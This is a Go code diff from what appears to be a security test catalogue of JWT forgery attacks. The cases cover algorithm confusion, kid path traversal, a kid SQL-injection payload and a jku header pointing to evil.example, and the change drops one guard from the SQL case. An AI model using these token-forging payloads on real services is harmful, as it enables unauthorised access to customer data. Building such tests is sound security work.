@@ -32,7 +32,7 @@ func tokens() []Case {
 			Try: `the same with {"alg":"HS256"}, by the key of {base}/api/keys as PEM`, Run: forgedBy(confused)},
 		{ID: "jwt-kid-path", Title: "A token whose key is a file that everybody knows (kid)", Class: class, Stops: stops,
 			Try: `the same with {"kid":"../public/pictures/lamp.svg"}, by the bytes of {base}/pictures/lamp.svg`, Run: forgedBy(fileAsKey)},
-		{ID: "jwt-kid-sql", Title: "A token whose key is what an injected statement says (kid)", Class: class, Stops: append(stops, "data/guard"),
+		{ID: "jwt-kid-sql", Title: "A token whose key is what an injected statement says (kid)", Class: class, Stops: stops,
 			Try: `the same with {"kid":"x' UNION SELECT 'sesame' --"}, by sesame; {base}/api/staff/customers`, Run: forgedBy(statementAsKey)},
 		{ID: "jwt-jku", Title: "A token that brings the address of its key (jku)", Class: class, Stops: stops,
 			Try: `the same by a key of one's own, with {"jku":"http://evil.example/?says=…"} for it; {base}/api/staff/customers`, Run: forgedBy(ownKey)},
